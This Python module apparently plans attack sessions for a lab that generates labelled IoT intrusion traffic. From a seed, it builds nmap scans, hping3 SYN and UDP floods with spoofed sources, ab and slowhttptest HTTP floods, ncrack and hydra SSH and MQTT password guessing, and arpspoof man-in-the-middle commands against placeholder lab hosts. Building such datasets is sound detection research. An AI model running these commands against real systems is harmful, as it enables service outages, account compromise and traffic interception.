"""Which attacks a session runs, in which order and how hard, drawn from its seed.

Each class is run in several variants, so that one class is not one number of bytes. Nothing is started here, so a
schedule can be read, tested and shown before anything is sent.
"""

from dataclasses import dataclass
from pathlib import Path
from random import Random

LISTS = Path(__file__).resolve().parent / "wordlists"
SERVER, ALARM, LIGHT, PHONE, ATTACKER = "pi-server", "fire-alarm", "room-light", "phone", "attacker"
CLASSES = (
    "Benign", "Intense scan", "SYN scan", "UDP scan", "SYN flood", "UDP flood", "HTTP flood", "Slow HTTP",
    "MQTT brute force", "SSH brute force", "ARP MITM",
)  # fmt: skip
PATHS = ("/", "/rooms", "/history", "/settings", "/login", "/api/state", "/static/style.css", "/static/app.js", "/none")
SETTLE_S = 3.0  # after an attack: what it left in the stacks still belongs to it
GAP_S = 6.0  # the least quiet between two attacks
# And between two on one host that both exchange datagrams with it: ICMP has no ports, so all of it is one flow, and
# the meter must have ended it (15 s of silence) or it would span two attacks. TCP ends its flows itself.
ICMP_GAP_S = 20.0
WITH_ICMP = ("Intense scan", "UDP scan", "UDP flood", "ARP MITM", "CoAP amplification")


@dataclass(frozen=True)
class Attack:
    """One attack: commands of one tool, one after the other; `{name}` in them stands for that host's address."""

    name: str  # the class
    victims: tuple[str, ...]  # host names; of a man in the middle the devices first, the server last
    commands: tuple[tuple[str, ...], ...]
    limit_s: int  # all of it is ended after this
    expected_s: int  # what it takes on an idle machine
    spoofed: bool = False  # packets bear addresses that are not the attacker's
    relayed: bool = False  # the victims' traffic passes through the attacker
    source: str = ATTACKER  # the host that runs it; another one is infected, and goes on with its own life
    background: bool = False  # the next attack does not wait for it


def plan_attacks(seed: int, small: bool = False) -> list[Attack]:
    """The attacks of a session in order, the same for the same seed."""
    random = Random(f"attacks {seed}")
    if small:
        scan, flood = _syn_scan(random, SERVER, 150), _syn_flood(random, SERVER, "own", 400)
        return [scan, flood, _mitm(random, (PHONE, ALARM), 12)]
    device, other = random.sample((ALARM, LIGHT), 2)
    attacks = [
        *(_intense_scan(random, victim) for victim in (SERVER, PHONE, device)),
        *(_syn_scan(random, victim, random.randint(500, 1000)) for victim in (SERVER, other)),
        *(_udp_scan(random, victim) for victim in (SERVER, device)),
        *(_syn_flood(random, SERVER, source, random.randint(500, 900)) for source in ("own", "one", "random")),
        *(
            _udp_flood(random, *how, random.randint(500, 900))
            for how in ((SERVER, False), (other, True), (device, False))
        ),
        *(_http_flood(random, requests) for requests in (500, 600)),
        *(_slow_http(random, mode) for mode in ("-H", "-B")),
        *(_guess_mqtt(random, guesses) for guesses in (120, 200)),
        *(_guess_ssh(random, *how) for how in (("ncrack", 1), ("ncrack", 2), ("hydra", 6))),
        *(_mitm(random, devices, random.randint(65, 80)) for devices in ((PHONE, ALARM), (PHONE, LIGHT))),
    ]
    return in_order(random, attacks)


def gap_before(attack: Attack, previous: Attack | None) -> float:
    """The least quiet before an attack, in seconds."""
    if previous is None or not (previous.name in WITH_ICMP and attack.name in WITH_ICMP):
        return GAP_S
    return ICMP_GAP_S if set(previous.victims) & set(attack.victims) else GAP_S


def in_order(random: Random, attacks: list[Attack]) -> list[Attack]:
    """Shuffle; where it can be had, follow an attack by one that needs no long gap after it."""
    waiting = random.sample(attacks, len(attacks))
    order = [waiting.pop()]
    while waiting:
        gaps = [gap_before(attack, order[-1]) for attack in waiting]
        order.append(waiting.pop(gaps.index(min(gaps))))
    return order


def _intense_scan(random: Random, victim: str) -> Attack:
    """Zenmap's "Intense scan": ports, versions, system, default scripts, route. On the server versions take longest."""
    ports = str(random.randint(400, 900))
    argv = ("nmap", "-T4", "-A", "-v", "--top-ports", ports, "--host-timeout", "115s", f"{{{victim}}}")
    return Attack("Intense scan", (victim,), (argv,), limit_s=120, expected_s=105 if victim == SERVER else 5)


def _syn_scan(random: Random, victim: str, ports: int) -> Attack:
    """A half-open scan at one of three paces."""
    pace = random.choice((("-T4",), ("-T3",), ("--max-rate", "150")))
    argv = ("nmap", "-sS", *pace, "-Pn", "-n", "--top-ports", str(ports), "--host-timeout", "20s", f"{{{victim}}}")
    return Attack("SYN scan", (victim,), (argv,), limit_s=25, expected_s=3)


def _udp_scan(random: Random, victim: str) -> Attack:
    """A UDP scan; Linux answers with one ICMP error a second, so most ports stay "open|filtered"."""
    ports, rate = str(random.randint(120, 180)), random.randint(15, 30)
    argv = (
        "nmap", "-sU", "-Pn", "-n", "--top-ports", ports, "--min-rate", str(rate), "--max-rate", str(2 * rate),
        "--max-retries", "1", "--host-timeout", "30s", f"{{{victim}}}",
    )  # fmt: skip
    return Attack("UDP scan", (victim,), (argv,), limit_s=35, expected_s=9)


def _syn_flood(random: Random, victim: str, source: str, packets: int) -> Attack:
    """Half-open connections to a service, from the attacker's own address, one forged, or one for each packet."""
    forged = {
        "own": (),
        "one": ("--spoof", f"203.0.113.{random.randint(1, 254)}"),  # TEST-NET-3, RFC 5737: nobody's
        "random": ("--rand-source",),
    }[source]
    bursts = []
    for port in random.sample(("80", "1883", "22"), 3):  # every service in every flood, or the port would be the class
        window, size = random.choice((64, 512, 4096, 64240)), random.choice((0, 0, 0, 32, 120))
        bursts.append(("-S", "-p", port, "--win", str(window), "--data", str(size), *forged))
    return hping("SYN flood", victim, bursts, random, packets)


def _udp_flood(random: Random, victim: str, forged: bool, packets: int) -> Attack:
    """Datagrams of several sizes to one port, port after port, or from one port to one; some forged."""
    bursts = []
    for _ in range(6):
        port = str(random.choice((53, 123, 5353, random.randint(1024, 60000))))
        ports = random.choice((("-p", port), ("-p", port), ("-p", f"++{port}"), ("-p", port, "--keep")))
        bursts.append(("--udp", *ports, "--data", str(random.randint(0, 1400)), *(("--rand-source",) * forged)))
    return hping("UDP flood", victim, bursts, random, packets)


def hping(
    name: str, victim: str, bursts: list[tuple[str, ...]], random: Random, packets: int,
    pauses_us: tuple[int, ...] = (1000, 2500, 5000, 8000),
) -> Attack:  # fmt: skip
    """Bursts of hping3, each with a count and a pause between packets, so that it is bounded both ways."""
    pauses = [random.choice(pauses_us) for _ in bursts]
    each = packets // len(bursts)
    commands = tuple(
        ("hping3", "-q", "-n", *options, "-c", str(each), "-i", f"u{pause}", f"{{{victim}}}")
        for options, pause in zip(bursts, pauses, strict=True)
    )
    seconds = each * sum(pauses) // 1_000_000 + len(bursts) + 1
    spoofed = any(option in ("--spoof", "--rand-source") for options in bursts for option in options)
    return Attack(name, (victim,), commands, limit_s=2 * seconds + 10, expected_s=seconds, spoofed=spoofed)


def _http_flood(random: Random, requests: int) -> Attack:
    """Whole requests, a connection each, many at once: pages, JSON, and the log-in form by POST."""
    paths = random.sample(PATHS, 5)
    shares = [random.randint(40, 160) for _ in paths]
    commands = []
    for path, share in zip(paths, shares, strict=True):
        form = ("-p", str(LISTS / "login.form"), "-T", "application/x-www-form-urlencoded") if path == "/login" else ()
        count, at_once = str(requests * share // sum(shares)), str(random.choice((5, 10, 25)))
        url = f"http://{{{SERVER}}}{path}"
        commands.append(("ab", "-q", "-r", "-s", "5", "-n", count, "-c", at_once, *form, url))
    return Attack("HTTP flood", (SERVER,), tuple(commands), limit_s=25, expected_s=4)


def _slow_http(random: Random, mode: str) -> Attack:
    """Requests that never end: headers (slowloris, -H) or a body (slow POST, -B) in drips."""
    connections, rate = str(random.randint(120, 180)), str(random.choice((15, 25, 40)))
    drip, size = str(random.randint(3, 8)), str(random.choice((8, 24, 48)))
    argv = (
        "slowhttptest", mode, "-c", connections, "-r", rate, "-i", drip, "-x", size, "-l", "22", "-p", "5",
        "-u", f"http://{{{SERVER}}}/",
    )  # fmt: skip
    return Attack("Slow HTTP", (SERVER,), (argv,), limit_s=35, expected_s=23)


def _guess_mqtt(random: Random, guesses: int) -> Attack:
    """Passwords for the broker, a connection for each guess."""
    users, passwords = random.sample(word_list("users.txt"), 4), random.sample(word_list("passwords.txt"), guesses // 4)
    argv = (
        "ncrack", "--user", ",".join(users), "--pass", ",".join(passwords),
        "-g", f"CL={random.randint(4, 10)},to=20s", f"mqtt://{{{SERVER}}}:1883",
    )  # fmt: skip
    return Attack("MQTT brute force", (SERVER,), (argv,), limit_s=25, expected_s=6)


def _guess_ssh(random: Random, tool: str, tries: int) -> Attack:
    """Passwords for the server's shell, so many on each connection; hydra takes as many as the server allows."""
    users, at_once = random.sample(word_list("users.txt"), 4), random.randint(8, 14)
    if tool == "ncrack":
        options = ("--user", ",".join(users), "--pass", ",".join(random.sample(word_list("passwords.txt"), 45)))
        argv = ("ncrack", *options, "-g", f"CL={at_once},at={tries},to=35s", f"ssh://{{{SERVER}}}:22")
    else:
        passwords = str(LISTS / "passwords.txt")
        argv = ("hydra", "-I", "-l", users[0], "-P", passwords, "-t", str(at_once), f"ssh://{{{SERVER}}}")
    return Attack("SSH brute force", (SERVER,), (argv,), limit_s=40, expected_s=35 if tool == "hydra" else 4)


def _mitm(random: Random, devices: tuple[str, ...], seconds: int) -> Attack:
    """Forged ARP replies to devices and server, both ways; the kernel of the attacker relays."""
    targets = tuple(word for device in random.sample(devices, len(devices)) for word in ("-t", f"{{{device}}}"))
    argv = ("arpspoof", "-i", "eth0", *targets, "-r", f"{{{SERVER}}}")
    return Attack("ARP MITM", (*devices, SERVER), (argv,), limit_s=seconds, expected_s=seconds + 9, relayed=True)


def word_list(name: str) -> list[str]:
    """The lines of a word list."""
    return (LISTS / name).read_text(encoding="utf-8").split()
